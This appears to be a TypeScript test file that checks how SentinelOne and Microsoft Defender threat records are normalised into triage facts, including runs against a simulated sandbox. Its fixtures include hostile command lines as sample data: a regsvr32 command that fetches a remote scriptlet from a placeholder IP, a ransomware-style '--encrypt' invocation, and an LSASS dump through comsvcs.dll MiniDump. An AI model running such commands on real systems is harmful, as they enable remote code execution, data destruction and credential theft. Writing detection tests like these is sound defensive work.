import { ThreatSchema, type Threat } from '../../../nodes/shared';
import { toThreat as fromDefender } from '../../../nodes/MspEdr/providers/defender/mappers';
import { MdeAlert, MdeCollection } from '../../../nodes/MspEdr/providers/defender/schemas';
import { toThreat as fromSentinelOne } from '../../../nodes/MspEdr/providers/sentinelOne/mappers';
import { S1List, S1Threat } from '../../../nodes/MspEdr/providers/sentinelOne/schemas';
import { startSandbox, type Sandbox } from '../../../sandbox';
import type { Device, Threat as WorldThreat, World } from '../../../sandbox/world/types';

import { copyOf, MDE_ALERTS_RESPONSE, S1_THREATS_RESPONSE } from './fixtures/vendor-payloads';
import { SANDBOX_TENANT } from '../../../sandbox/vendors/microsoft-login/directory';

import { providerFor, threatIdIn } from './setup';

/** The facts triage reads from a normalized threat, never from vendor keys. */
const FACTS = [
	'title',
	'commandLine',
	'parentProcess',
	'user',
	'signer',
	'signed',
	'md5',
	'edrConfidence',
	'mitreTechniques',
	'deviceType',
] as const;
type Facts = Pick<Threat, (typeof FACTS)[number]>;
const NO_FACTS: Facts = Object.fromEntries(FACTS.map((f) => [f, undefined])) as Facts;

const factsOf = (threat: Threat): Facts =>
	Object.fromEntries(FACTS.map((f) => [f, threat[f]])) as Facts;

/** Parsed the way the providers parse a list answer, then mapped; the result must fit ThreatSchema. */
function s1Threat(item: unknown): Threat {
	const body = S1List(S1Threat).parse({ data: [item] });
	return ThreatSchema.parse(fromSentinelOne(body.data[0] as S1Threat));
}
function mdeThreat(item: unknown): Threat {
	const body = MdeCollection(MdeAlert).parse({ value: [item] });
	return ThreatSchema.parse(fromDefender(body.value[0] as MdeAlert));
}

type S1Item = (typeof S1_THREATS_RESPONSE.data)[number];
type MdeItem = (typeof MDE_ALERTS_RESPONSE.value)[number];
/** The reference's SentinelOne threat with some `threatInfo` (and top-level) fields changed. */
function s1With(
	info: Record<string, unknown>,
	top: Record<string, unknown> = {},
): Record<string, unknown> {
	const item: S1Item = copyOf(S1_THREATS_RESPONSE.data[0]);
	return { ...item, ...top, threatInfo: { ...item.threatInfo, ...info } };
}
/** The reference's Defender alert with some fields changed. */
function mdeWith(fields: Record<string, unknown>): Record<string, unknown> {
	return { ...copyOf(MDE_ALERTS_RESPONSE.value[0] as MdeItem), ...fields };
}
const processEvidence = (fields: Record<string, unknown>) => ({
	entityType: 'Process',
	detectionStatus: 'Detected',
	...fields,
});

describe('Threat facts for triage: SentinelOne threat (reference §1.3)', () => {
	it('reads the documented threat: title, user, EDR confidence and role; the rest absent', () => {
		const threat = s1Threat(S1_THREATS_RESPONSE.data[0]);
		expect(factsOf(threat)).toEqual({
			...NO_FACTS,
			title: 'Unconfirmed 123490.crdownload',
			user: 'EC2AMAZ-AJ0KANC\\Administrator',
			edrConfidence: 'malicious',
			deviceType: 'server',
		});
		// threatName is the detected file; originatorProcess (null here) would be its parent.
		expect(threat.processName).toBe('Unconfirmed 123490.crdownload');
		expect(threat).toMatchObject({
			id: '715718962991148224',
			deviceId: '657613730168123595',
			hostname: 'EC2AMAZ-AJ0KANC',
			severity: 'high',
			sha1: '3395856ce81f2b7382dee72602f798b642f14140',
		});
		// `tactics: []` holds no technique: the field is absent, not an empty list.
		expect(threat.mitreTechniques).toBeUndefined();
		expect(threat.raw).toEqual(S1_THREATS_RESPONSE.data[0]);
	});

	it('reads the command line, parent, signer, signature, md5 and techniques when present', () => {
		const threat = s1Threat(
			s1With(
				{
					commandLineArguments: '  "C:\\Users\\Public\\a.exe" -k netsvcs  ',
					originatorProcess: 'powershell.exe',
					publisherName: 'Microsoft Corporation',
					isFileSigned: true,
					md5: '0CC175B9C0F1B6A831C399E269772661',
					confidenceLevel: 'suspicious',
				},
				{
					indicators: [
						{ category: 'Injection', ids: [1], tactics: [] },
						{
							category: 'Evasion',
							ids: [2],
							tactics: [
								{
									name: 'Defense Evasion',
									source: 'MITRE',
									techniques: [
										{ name: 'T1055', link: 'https://attack.mitre.org/techniques/T1055/' },
									],
								},
								{
									name: 'T1059.001',
									techniques: [{ name: 't1059.001' }, { name: 'T1055 - Process Injection' }],
								},
							],
						},
					],
				},
			),
		);
		expect(factsOf(threat)).toEqual({
			title: 'Unconfirmed 123490.crdownload',
			commandLine: '"C:\\Users\\Public\\a.exe" -k netsvcs',
			parentProcess: 'powershell.exe',
			user: 'EC2AMAZ-AJ0KANC\\Administrator',
			signer: 'Microsoft Corporation',
			signed: true,
			md5: '0CC175B9C0F1B6A831C399E269772661',
			edrConfidence: 'suspicious',
			mitreTechniques: ['T1055', 'T1059.001'],
			deviceType: 'server',
		});
		// The parent is not the detected process.
		expect(threat.processName).toBe('Unconfirmed 123490.crdownload');
	});

	it.each([
		['commandLineArguments', { commandLineArguments: 'a.exe /x' }, {}, 'a.exe /x'],
		['threatInfo.commandLine', { commandLine: 'b.exe /y' }, {}, 'b.exe /y'],
		['a Unified Alerts process.cmdLine', {}, { process: { cmdLine: 'c.exe /z' } }, 'c.exe /z'],
		[
			'the first non-blank of them',
			{ commandLineArguments: '   ', commandLine: null },
			{ process: { cmdLine: ' c.exe /z ' } },
			'c.exe /z',
		],
		['nothing when all are blank', { commandLineArguments: '' }, { process: null }, undefined],
	])('takes the command line from %s', (_label, info, top, expected) => {
		expect(s1Threat(s1With(info, top)).commandLine).toBe(expected);
	});

	it.each([
		['isFileSigned true', { isFileSigned: true }, true],
		['isFileSigned false', { isFileSigned: false, publisherName: '' }, false],
		['isValidCertificate true', { isValidCertificate: true }, true],
		[
			'an invalid certificate on a "signed" file',
			{ isFileSigned: true, isValidCertificate: false },
			false,
		],
		['a certificate id only', { certificateId: 'ab12cd' }, true],
		['a numeric certificate id', { certificateId: 4711 }, true],
		['a blank certificate id', { certificateId: ' ' }, undefined],
		['no signature field', {}, undefined],
		['nulls', { isFileSigned: null, isValidCertificate: null, certificateId: null }, undefined],
	])('reads the signature from %s', (_label, info, signed) => {
		expect(s1Threat(s1With(info)).signed).toBe(signed);
	});

	it.each([
		['an empty publisherName', '', undefined],
		['a blank publisherName', '   ', undefined],
		['null', null, undefined],
		['a padded name', ' Lavasoft Software Canada Inc. ', 'Lavasoft Software Canada Inc.'],
	])('reads the signer from %s', (_label, publisherName, signer) => {
		expect(s1Threat(s1With({ publisherName })).signer).toBe(signer);
	});

	it.each([
		['malicious', 'malicious'],
		['suspicious', 'suspicious'],
		['n/a', undefined],
		['Malicious', undefined],
		[null, undefined],
	])('EDR confidence %p reads as %p', (confidenceLevel, expected) => {
		expect(s1Threat(s1With({ confidenceLevel })).edrConfidence).toBe(expected);
	});

	it.each([
		['laptop', 'workstation'],
		['desktop', 'workstation'],
		['server', 'server'],
		['kubernetes node', 'server'],
		['unknown', undefined],
		[null, undefined],
	])('agentMachineType %p reads as role %p', (agentMachineType, role) => {
		const item = copyOf(S1_THREATS_RESPONSE.data[0]) as unknown as Record<string, unknown> & {
			agentRealtimeInfo: Record<string, unknown>;
		};
		item.agentRealtimeInfo.agentMachineType = agentMachineType;
		expect(s1Threat(item).deviceType).toBe(role);
	});

	it('drops tactic names and malformed ids, keeps each technique once, in order', () => {
		const threat = s1Threat(
			s1With(
				{},
				{
					indicators: [
						{ tactics: null },
						{
							tactics: [
								{ name: 'Execution', techniques: [{ name: 'T1059.001' }, { name: null }, {}] },
								{ name: null, techniques: null },
								{ name: 'Persistence', techniques: [{ name: 'T10599' }, { name: 'T1547.0011' }] },
								{ name: 'Impact', techniques: [{ name: 'T1486' }, { name: ' T1059.001 ' }] },
							],
						},
					],
				},
			),
		);
		expect(threat.mitreTechniques).toEqual(['T1059.001', 'T1486']);
	});

	it('parses a threat without any of these fields, and one with them all null', () => {
		const bare = {
			id: '1',
			agentRealtimeInfo: {},
			threatInfo: { createdAt: '2019-09-15T12:05:49.095889Z' },
		};
		expect(factsOf(s1Threat(bare))).toEqual(NO_FACTS);
		const nulls = {
			id: '2',
			agentRealtimeInfo: { agentMachineType: null },
			threatInfo: {
				createdAt: '2019-09-15T12:05:49.095889Z',
				threatName: null,
				commandLineArguments: null,
				commandLine: null,
				originatorProcess: null,
				processUser: null,
				publisherName: null,
				isFileSigned: null,
				isValidCertificate: null,
				certificateId: null,
				md5: null,
				confidenceLevel: null,
			},
			indicators: null,
			process: null,
		};
		expect(factsOf(s1Threat(nulls))).toEqual(NO_FACTS);
	});

	it('trims every text fact and treats blank text as absent', () => {
		const threat = s1Threat(
			s1With({
				threatName: '  mimikatz.exe ',
				originatorProcess: ' ',
				processUser: '\tBSD\\chloe\n',
				md5: '',
			}),
		);
		expect(threat).toMatchObject({ title: 'mimikatz.exe', user: 'BSD\\chloe' });
		expect(threat.parentProcess).toBeUndefined();
		expect(threat.md5).toBeUndefined();
	});

	it('names the process after the file path when the threat has no name', () => {
		expect(s1Threat(s1With({ threatName: null })).processName).toBe(
			'Unconfirmed 123490.crdownload',
		);
	});
});

describe('Threat facts for triage: Defender alert with evidence (reference §3.3)', () => {
	it('reads the documented alert: title, command line, parent, user and techniques', () => {
		const threat = mdeThreat(MDE_ALERTS_RESPONSE.value[0]);
		expect(factsOf(threat)).toEqual({
			...NO_FACTS,
			title: 'Low-reputation arbitrary code executed by signed executable',
			// Byte for byte inside: the double space is the sensor's.
			commandLine: 'rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe',
			parentProcess: 'rundll32.exe',
			user: 'DOMAIN\\temp123',
			mitreTechniques: ['T1064', 'T1085', 'T1220'],
		});
		// No signer, no EDR confidence and no role on an alert: absent, and no extra request made.
		expect(threat.signer).toBeUndefined();
		expect(threat.signed).toBeUndefined();
		expect(threat.edrConfidence).toBeUndefined();
		expect(threat.deviceType).toBeUndefined();
		expect(threat).toMatchObject({
			id: 'da637472900382838869_1364969609',
			hostname: 'temp123',
			processName: 'rundll32.exe',
			processPath: 'C:\\Windows\\SysWOW64\\rundll32.exe',
			sha1: 'ff836cfb1af40252bd2a2ea843032e99a5b262ed',
			severity: 'low',
		});
		expect(threat.raw).toEqual(MDE_ALERTS_RESPONSE.value[0]);
	});

	it("prefers the detected file's own process evidence, and takes md5 from the file", () => {
		const threat = mdeThreat(
			mdeWith({
				evidence: [
					{
						entityType: 'File',
						fileName: 'evil.exe',
						filePath: 'C:\\Users\\Public',
						sha1: 'aa'.repeat(20),
						md5: ' 0cc175b9c0f1b6a831c399e269772661 ',
					},
					processEvidence({
						fileName: 'cmd.exe',
						processCommandLine: 'cmd.exe /c evil.exe',
						parentProcessFileName: 'winword.exe',
						md5: 'ff'.repeat(16),
					}),
					processEvidence({
						fileName: 'EVIL.EXE',
						processCommandLine: 'evil.exe --encrypt C:\\Users',
						parentProcessFileName: 'cmd.exe',
					}),
				],
			}),
		);
		expect(threat).toMatchObject({
			processName: 'evil.exe',
			commandLine: 'evil.exe --encrypt C:\\Users',
			parentProcess: 'cmd.exe',
			md5: '0cc175b9c0f1b6a831c399e269772661',
		});
	});

	it('falls back to the first process evidence with a command line', () => {
		const threat = mdeThreat(
			mdeWith({
				evidence: [
					{ entityType: 'File', fileName: 'payload.dll', sha1: 'bb'.repeat(20) },
					processEvidence({ fileName: 'payload.dll', processCommandLine: '   ' }),
					processEvidence({
						fileName: 'regsvr32.exe',
						processCommandLine: 'regsvr32.exe /s /i:http://203.0.113.9/x scrobj.dll',
						parentProcessFileName: 'explorer.exe',
					}),
					processEvidence({ fileName: 'other.exe', processCommandLine: 'other.exe' }),
				],
			}),
		);
		expect(threat).toMatchObject({
			commandLine: 'regsvr32.exe /s /i:http://203.0.113.9/x scrobj.dll',
			parentProcess: 'explorer.exe',
		});
		expect(threat.md5).toBeUndefined();
	});

	it('without any command line, the detected process still gives the parent and the account', () => {
		const threat = mdeThreat(
			mdeWith({
				relatedUser: null,
				evidence: [
					processEvidence({
						fileName: 'x.exe',
						sha1: 'cc'.repeat(20),
						parentProcessFileName: 'svchost.exe',
						accountName: 'svc-backup',
						domainName: 'HLL',
					}),
				],
			}),
		);
		expect(threat).toMatchObject({ parentProcess: 'svchost.exe', user: 'HLL\\svc-backup' });
		expect(threat.commandLine).toBeUndefined();
	});

	it.each([
		['DOMAIN\\userName', { userName: 'chloe', domainName: 'BSD' }, {}, 'BSD\\chloe'],
		['the bare user name without a domain', { userName: 'chloe', domainName: null }, {}, 'chloe'],
		[
			'the bare user name with a blank domain',
			{ userName: ' chloe ', domainName: ' ' },
			{},
			'chloe',
		],
		[
			"the process evidence's account without a related user",
			null,
			{ accountName: 'Administrator', domainName: 'NWL' },
			'NWL\\Administrator',
		],
		[
			"the process evidence's account when the related user has no name",
			{ userName: '', domainName: 'BSD' },
			{ accountName: 'Administrator' },
			'Administrator',
		],
		['nothing when neither names a user', null, {}, undefined],
	])('names the user as %s', (_label, relatedUser, account, user) => {
		const threat = mdeThreat(
			mdeWith({
				relatedUser,
				evidence: [processEvidence({ fileName: 'a.exe', processCommandLine: 'a.exe', ...account })],
			}),
		);
		expect(threat.user).toBe(user);
	});

	it.each([
		['an empty list', [], undefined],
		['null', null, undefined],
		[
			'ids with a duplicate and a blank',
			['T1059.001', ' ', 't1059.001', 'T1486'],
			['T1059.001', 'T1486'],
		],
	])('reads mitreTechniques from %s', (_label, mitreTechniques, expected) => {
		expect(mdeThreat(mdeWith({ mitreTechniques })).mitreTechniques).toEqual(expected);
	});

	it('parses an alert read without $expand=evidence, and one with every fact null or missing', () => {
		const withoutEvidence = copyOf(MDE_ALERTS_RESPONSE.value[0]) as Record<string, unknown>;
		delete withoutEvidence.evidence;
		expect(factsOf(mdeThreat(withoutEvidence))).toEqual({
			...NO_FACTS,
			title: 'Low-reputation arbitrary code executed by signed executable',
			user: 'DOMAIN\\temp123',
			mitreTechniques: ['T1064', 'T1085', 'T1220'],
		});
		const bare = { id: 'da1_2', alertCreationTime: '2021-01-26T20:33:57.7220239Z' };
		expect(factsOf(mdeThreat(bare))).toEqual(NO_FACTS);
		const nulls = {
			...bare,
			title: '  ',
			mitreTechniques: null,
			relatedUser: null,
			evidence: [
				{
					entityType: 'Process',
					fileName: null,
					processCommandLine: null,
					parentProcessFileName: null,
					md5: null,
					accountName: null,
					domainName: null,
				},
			],
		};
		expect(factsOf(mdeThreat(nulls))).toEqual(NO_FACTS);
	});
});

/** What each vendor of the sandbox shows of a world threat, in the normalized words. */
function sandboxFacts(
	name: 'sentinelOne' | 'microsoftDefender',
	world: World,
	t: WorldThreat,
): Facts {
	const device = world.devices.find((d) => d.key === t.deviceKey) as Device;
	const client = world.clients.find((c) => c.key === device.clientKey)!;
	const shared = {
		commandLine: t.commandLine.trim() || undefined,
		mitreTechniques: t.mitreTechniques.length ? t.mitreTechniques : undefined,
	};
	if (name === 'sentinelOne')
		return {
			...shared,
			title: t.processName,
			// The sandbox presents the detected process as its own originator (see the report).
			parentProcess: t.processName,
			user: device.lastLoggedOnUser,
			signer: t.signer,
			signed: t.signed,
			md5: undefined,
			edrConfidence: t.confidence,
			deviceType: device.type === 'workstation' ? 'workstation' : 'server',
		};
	const [domain, user] = device.lastLoggedOnUser.includes('\\')
		? device.lastLoggedOnUser.split('\\')
		: [client.code, device.lastLoggedOnUser];
	return {
		...shared,
		title: t.title,
		parentProcess: 'explorer.exe',
		user: `${domain.toUpperCase()}\\${user}`,
		// The File entity's signature, read once per hash (alerts carry none).
		signer: t.signed ? t.signer : undefined,
		signed: t.signed,
		md5: undefined,
		edrConfidence: undefined,
		deviceType: undefined,
	};
}

describe.each([
	{ name: 'sentinelOne' as const, label: 'SentinelOne' },
	{ name: 'microsoftDefender' as const, label: 'Microsoft Defender for Endpoint' },
])('Threat facts for triage: $label over the sandbox', ({ name }) => {
	let sandbox: Sandbox;
	beforeAll(async () => {
		sandbox = await startSandbox({ port: 0, scale: { threats: 25 } });
	});
	afterAll(async () => sandbox.stop());
	beforeEach(() => sandbox.reset());

	it('every listed threat carries the facts the vendor presents, and fits the schema', async () => {
		const threats = await providerFor(sandbox, name).listThreats({ returnAll: true });
		const world = sandbox.world();
		expect(threats).toHaveLength(world.threats.length);
		for (const threat of threats) {
			const source = world.threats.find((t) => threatIdIn(name, t) === threat.id)!;
			expect(ThreatSchema.safeParse(threat).success).toBe(true);
			expect({ key: source.key, ...factsOf(threat) }).toEqual({
				key: source.key,
				...sandboxFacts(name, world, source),
			});
		}
		// The seeded scenarios are where triage decides: spot-check them by name.
		const byScenario = (scenario: WorldThreat['scenario']) =>
			threats.find(
				(t) => t.id === threatIdIn(name, world.threats.find((w) => w.scenario === scenario)!),
			)!;
		expect(byScenario('ransomware')).toMatchObject({
			commandLine: expect.stringContaining('--encrypt'),
			mitreTechniques: ['T1486', 'T1490', 'T1059.001'],
		});
		expect(byScenario('pup').mitreTechniques).toBeUndefined();
		expect(byScenario('serverCredentialTheft')).toMatchObject({
			commandLine: expect.stringContaining('comsvcs.dll, MiniDump'),
			mitreTechniques: ['T1003.001', 'T1218.011'],
			...(name === 'sentinelOne'
				? {
						signer: 'Microsoft Windows',
						signed: true,
						edrConfidence: 'malicious',
						deviceType: 'server',
					}
				: {}),
		});
		if (name === 'sentinelOne')
			expect(byScenario('falsePositiveAdminTool')).toMatchObject({
				signer: 'Microsoft Corporation',
				signed: true,
				edrConfidence: 'suspicious',
				deviceType: 'workstation',
			});
	});

	it('an injected threat with an empty command line and no signer reads them as absent', async () => {
		const injected = sandbox.injectThreat({
			hostname: 'BSD-WS02',
			processName: 'dropper.exe',
			commandLine: '',
			mitreTechniques: [],
			confidence: 'suspicious',
		});
		const id = name === 'sentinelOne' ? injected.ids.sentinelOne : injected.ids.defender;
		const threat = await providerFor(sandbox, name).getThreat(id);
		expect(threat.commandLine).toBeUndefined();
		expect(threat.signer).toBeUndefined();
		expect(threat.mitreTechniques).toBeUndefined();
		if (name === 'sentinelOne') {
			expect(threat).toMatchObject({
				signed: false,
				edrConfidence: 'suspicious',
				deviceType: 'workstation',
			});
		}
	});
});

describe("Defender: the signer from the file's entity", () => {
	let sandbox: Sandbox;
	beforeAll(async () => {
		sandbox = await startSandbox({ port: 0, scale: { threats: 25 } });
	});
	afterAll(async () => sandbox.stop());
	beforeEach(() => sandbox.reset());
	const fileReads = () =>
		sandbox.requests.query({ vendor: 'defender' }).filter((r) => /\/api\/files\//.test(r.path));

	it('reads each file once per hash, so an allow-listed signed tool can be recognised', async () => {
		const threats = await providerFor(sandbox, 'microsoftDefender').listThreats({
			returnAll: true,
		});
		const hashes = new Set(threats.map((t) => t.sha1));
		expect(fileReads()).toHaveLength(hashes.size);
		const psexec = sandbox.world().threats.find((t) => t.scenario === 'falsePositiveAdminTool')!;
		expect(threats.find((t) => t.id === psexec.defenderAlertId)).toMatchObject({
			processName: 'PsExec64.exe',
			signer: 'Microsoft Corporation',
			signed: true,
		});
		const ransomware = sandbox.world().threats.find((t) => t.scenario === 'ransomware')!;
		expect(threats.find((t) => t.id === ransomware.defenderAlertId)).toMatchObject({
			signed: false,
		});
	});

	it('Get reads the signature too', async () => {
		const psexec = sandbox.world().threats.find((t) => t.scenario === 'falsePositiveAdminTool')!;
		const threat = await providerFor(sandbox, 'microsoftDefender').getThreat(
			psexec.defenderAlertId,
		);
		expect(threat).toMatchObject({ signer: 'Microsoft Corporation', signed: true });
	});

	it('an app without File.Read.All still reads its threats, unsigned as far as it knows', async () => {
		const roles = SANDBOX_TENANT.apps[0].roles;
		const index = roles.indexOf('File.Read.All');
		roles.splice(index, 1);
		try {
			const threats = await providerFor(sandbox, 'microsoftDefender').listThreats({
				returnAll: true,
			});
			expect(threats).toHaveLength(sandbox.world().threats.length);
			expect(threats.every((t) => t.signer === undefined && t.signed !== true)).toBe(true);
			expect(fileReads().every((r) => r.status === 403)).toBe(true);
		} finally {
			roles.splice(index, 0, 'File.Read.All');
		}
	});
});
